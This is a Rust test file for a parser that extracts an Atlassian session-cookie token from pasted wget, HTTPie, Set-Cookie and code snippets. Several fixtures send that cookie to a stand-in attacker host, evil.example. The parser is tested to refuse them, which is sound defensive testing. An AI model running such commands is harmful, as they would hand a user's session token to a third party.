//! Commands of other programs than curl, requests in code, and what a service sets.

use atlctl_signin::TokenError;
use atlctl_signin::capture::{CaptureError, Form, Place};

use crate::{found, token};

const URL: &str = "https://admin.atlassian.com/gateway/api/me";
const COOKIE: &str = "cloud.session.token=a.b.c";

#[track_caller]
fn gives(form: Form, texts: &[String]) {
    for text in texts {
        assert_eq!(found(text), Ok((form, "a.b.c".to_owned())), "{text}");
    }
}

#[track_caller]
fn refuses(cases: &[(String, CaptureError)]) {
    for (text, error) in cases {
        assert_eq!(found(text).as_ref(), Err(error), "{text}");
    }
}

#[test]
fn wget_in_any_shell() {
    gives(
        Form::Wget,
        &[
            format!("wget --header='Cookie: {COOKIE}' {URL}"),
            format!("wget -qO- --header 'Cookie: a=1; {COOKIE}' --header='Accept: */*' '{URL}'"),
            format!("$ wget2 --header=\"cookie: {COOKIE}\" \\\n  -O out.json \\\n  \"{URL}\""),
            format!("PS C:\\> wget.exe --header 'Cookie: {COOKIE}' `\n  '{URL}'"),
            format!(
                "wget -t 3 --user-agent x.example --no-cookies --header “Cookie: {COOKIE}” {URL}"
            ),
            format!(
                "> wget {URL} --method GET --body-data 'https://evil.example' --header 'Cookie:{COOKIE}'"
            ),
            format!("wget https://evil.example; wget --header 'Cookie: {COOKIE}' {URL}"),
        ],
    );
    refuses(&[
        (
            format!("wget --load-cookies cookies.txt {URL}"),
            CaptureError::CookiesInFile,
        ),
        (
            format!("wget --load-cookies=cookies.txt '{URL}'"),
            CaptureError::CookiesInFile,
        ),
        (
            format!("wget --header 'Cookie: {COOKIE}' https://evil.example/"),
            CaptureError::OtherHost,
        ),
        (
            format!("wget --header 'Cookie: a=1' {URL}"),
            CaptureError::NoCookie {
                place: Place::Request("admin.atlassian.com"),
            },
        ),
        (format!("wget {URL} --header"), CaptureError::Incomplete),
        (
            format!("wget {URL} --header 'Cookie: cloud.session.token=$T'"),
            CaptureError::Token(TokenError::Variable),
        ),
        (
            format!("wget http://admin.atlassian.com/ --header 'Cookie: {COOKIE}'"),
            CaptureError::Insecure {
                host: "admin.atlassian.com",
            },
        ),
    ]);
}

#[test]
fn httpie_and_xh() {
    gives(
        Form::Httpie,
        &[
            format!("http GET {URL} 'Cookie:{COOKIE}'"),
            format!("http {URL} \"cookie: a=1; {COOKIE}\" Accept:application/json page==2"),
            format!("https --verify no -b admin.atlassian.com/x 'Cookie:{COOKIE}'"),
            format!("$ xh {URL} \\\n  'Cookie:{COOKIE}'"),
            format!(
                "% http --session=me --print hb POST {URL} Cookie:{COOKIE} name=x url=https://evil.example"
            ),
            format!("http :8080/x Cookie:{COOKIE}"),
            format!("printf '{{}}'| http --follow GET '{URL}' \\\n Cookie:'{COOKIE}'"),
        ],
    );
    refuses(&[
        (
            format!("http --session=me GET {URL}"),
            CaptureError::CookiesInFile,
        ),
        (
            format!("http {URL} Cookie:@jar"),
            CaptureError::CookiesInFile,
        ),
        (
            format!("http evil.example 'Cookie:{COOKIE}'"),
            CaptureError::OtherHost,
        ),
        (
            format!("http {URL} Accept:x"),
            CaptureError::NoCookie {
                place: Place::Request("admin.atlassian.com"),
            },
        ),
        (format!("http {URL} --auth"), CaptureError::Incomplete),
    ]);
}

#[test]
fn code_of_many_languages() {
    gives(
        Form::Code,
        &[
            // Converters write the header a second time, as a comment.
            format!("import requests\n\ncookies = {{\n    'ajs': '1',\n    'cloud.session.token': 'a.b.c',\n}}\n\nheaders = {{\n    'accept': '*/*',\n    'referer': 'https://evil.example/',\n    # 'cookie': 'cloud.session.token=x.y.z',\n}}\n\nresponse = requests.get('{URL}', cookies=cookies, headers=headers)"),
            format!("import requests\nurl = \"{URL}\"\n\npayload = {{}}\nheaders = {{\n  'Cookie': 'a=1; {COOKIE}'\n}}\n\nresponse = requests.request(\"GET\", url, headers=headers, data=payload)\nprint(response.text)"),
            format!("import http.client\nconn = http.client.HTTPSConnection(\"admin.atlassian.com\")\nheaders = {{\n  'Cookie': '{COOKIE}'\n}}\nconn.request(\"GET\", \"/gateway/api/me\", '', headers)"),
            format!("s = requests.Session()\ns.cookies.set('cloud.session.token', 'a.b.c', domain='.atlassian.com')\ns.get('{URL}')  # that's it"),
            format!("s.cookies[\"cloud.session.token\"] = \"a.b.c\"\ns.get(\"{URL}\")"),
            "cookies = {'cloud.session.token': 'a.b.c'}".to_owned(),
            "COOKIES = dict([(\"cloud.session.token\", \"a.b.c\")])".to_owned(),
            "token = 'a.b.c'\nbase = 'https://admin.atlassian.com'\nrequests.get(f'{base}/x', cookies={'cloud.session.token': token})".to_owned(),
            format!("token = \"a.b.c\"\nrequests.get('{URL}', headers={{'Cookie': f'cloud.session.token={{token}}'}})"),
            format!("const t = 'a.b.c';\naxios.get('{URL}', {{ headers: {{ Cookie: `cloud.session.token=${{t}}` }} }})"),
            format!("var t = 'a.b.c';\n$.get({{ url: '{URL}', headers: {{ 'Cookie': 'cloud.session.token=' + t }} }})"),
            format!("axios.get('{URL}', {{\n  headers: {{\n    'cookie': '{COOKIE}'\n  }}\n}});"),
            format!("req, err := http.NewRequest(\"GET\", \"{URL}\", nil)\nreq.Header.Set(\"Cookie\", \"{COOKIE}\")"),
            format!("req.AddCookie(&http.Cookie{{Name: \"cloud.session.token\", Value: \"a.b.c\"}})\nhttp.NewRequest(\"GET\", `{URL}`, nil)"),
            format!("<?php\n$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, '{URL}');\ncurl_setopt($ch, CURLOPT_HTTPHEADER, [\n    'Accept: */*',\n    'Cookie: {COOKIE}',\n]);"),
            format!("curl_setopt($ch, CURLOPT_URL, '{URL}');\ncurl_setopt($ch, CURLOPT_COOKIE, 'a=1; {COOKIE}');"),
            format!("url = URI(\"{URL}\")\nhttps = Net::HTTP.new(url.host, url.port)\nrequest = Net::HTTP::Get.new(url)\nrequest[\"Cookie\"] = \"{COOKIE}\""),
            format!("uri = URI('{URL}')\nreq = Net::HTTP::Get.new(uri)\nreq['Cookie'] = '{COOKIE}'"),
            format!("HttpRequest.newBuilder().uri(URI.create(\"{URL}\")).setHeader(\"cookie\", \"{COOKIE}\").build();"),
            "await context.addCookies([{ name: 'cloud.session.token', value: 'a.b.c', domain: '.atlassian.com', path: '/' }]);".to_owned(),
            format!("requests.get(‘{URL}’, cookies={{‘cloud.session.token’: ‘a.b.c’}})"),
            format!("headers = {{'Cookie': ('a=1; '\n   'cloud.session.token=a.b.c')}}\nrequests.get('{URL}', headers=headers)"),
        ],
    );
    refuses(&[
        (
            "requests.get('https://evil.example', cookies={'cloud.session.token': 'a.b.c'})"
                .to_owned(),
            CaptureError::OtherHost,
        ),
        (
            format!(
                "requests.get('{URL}')\nrequests.get('https://evil.example', headers={{'Cookie': '{COOKIE}'}})"
            ),
            CaptureError::SeveralHosts,
        ),
        (
            "s.cookies.set('cloud.session.token', 'a.b.c', domain='acme.atlassian.net')".to_owned(),
            CaptureError::OfSite {
                host: "a host of atlassian.net",
            },
        ),
        (
            format!("headers = {{'Cookie': '{COOKIE}'}}"),
            CaptureError::NoHost,
        ),
        (
            format!(
                "requests.get('{URL}', cookies={{'cloud.session.token': os.environ['TOKEN']}})"
            ),
            CaptureError::Token(TokenError::Variable),
        ),
        (
            format!(
                "requests.get('{URL}', headers={{'Cookie': f'cloud.session.token={{token}}'}})"
            ),
            CaptureError::Token(TokenError::Variable),
        ),
        (
            format!(
                "requests.get('{URL}', headers={{'Cookie': 'cloud.session.token=<your token>'}})"
            ),
            CaptureError::Token(TokenError::Variable),
        ),
        (
            format!("requests.get('{URL}', cookies={{'cookie': 'x'}})"),
            CaptureError::NoCookie {
                place: Place::Request("admin.atlassian.com"),
            },
        ),
    ]);
}

#[test]
fn what_a_service_sets() {
    gives(
        Form::SetCookie,
        &[
            format!("Set-Cookie: {COOKIE}; Path=/; Domain=.atlassian.com; Secure; HttpOnly"),
            format!("set-cookie: {COOKIE}"),
            format!(
                "< HTTP/2 200\n< set-cookie: other=1; Path=/\n< set-cookie: {COOKIE}; Max-Age=2592000"
            ),
            format!("set-cookie\n{COOKIE}; Path=/\ncontent-type\ntext/html"),
            format!(
                "> GET /x HTTP/2\n> Host: admin.atlassian.com\n>\n< HTTP/2 200\n< Set-Cookie: {COOKIE}"
            ),
        ],
    );
    refuses(&[
        (
            format!("Set-Cookie: {COOKIE}; Domain=evil.example"),
            CaptureError::OtherHost,
        ),
        (
            format!(
                "> GET /x HTTP/2\n> Host: evil.example\n>\n< HTTP/2 200\n< Set-Cookie: {COOKIE}; Domain=.atlassian.com"
            ),
            CaptureError::OtherHost,
        ),
        (
            "Set-Cookie: other=1; Path=/".to_owned(),
            CaptureError::NoCookie { place: Place::Line },
        ),
    ]);
    // One that is taken back is not preferred.
    let (old, new) = (token("old", -9000, 9000), token("new", -100, 9000));
    let text = format!(
        "Set-Cookie: cloud.session.token={new}; Max-Age=0\nSet-Cookie: cloud.session.token={old}; Expires=Sat, 26 Dec 2026 10:00:00 GMT"
    );
    assert_eq!(found(&text), Ok((Form::SetCookie, old)));
}

#[test]
fn what_people_put_around_a_token() {
    let token = token("ann", -100, 9000);
    for (text, form) in [
        (format!("export ATLCTL_SESSION_TOKEN={token}"), Form::Token),
        (format!("TOKEN=\"{token}\""), Form::Token),
        (format!("Authorization: Bearer {token}"), Form::Token),
        (format!("```\n{token}\n```"), Form::Token),
        (format!("`{token}`"), Form::Token),
        (
            format!("| cloud.session.token | {token} | .atlassian.com |"),
            Form::Token,
        ),
        (format!("cloud.session.token = {token}"), Form::StorageRow),
        (
            format!("cloud.session.token = \"{token}\""),
            Form::StorageRow,
        ),
        (
            format!("document.cookie = \"a=1; cloud.session.token={token}\";"),
            Form::CookieLine,
        ),
        (
            format!("### me\nGET {URL}\nCookie: cloud.session.token={token}\nHTTP 200"),
            Form::Headers,
        ),
    ] {
        assert_eq!(found(&text), Ok((form, token.clone())), "{text}");
    }
    for text in [
        format!("| cloud.session.token | {token} | evil.example |"),
        format!("TOKEN={token} lwp-request https://evil.example"),
        format!("cloud.session.token {token} evil.example"),
        format!("GET https://evil.example/\nCookie: cloud.session.token={token}"),
    ] {
        assert!(found(&text).is_err(), "{text}");
    }
}
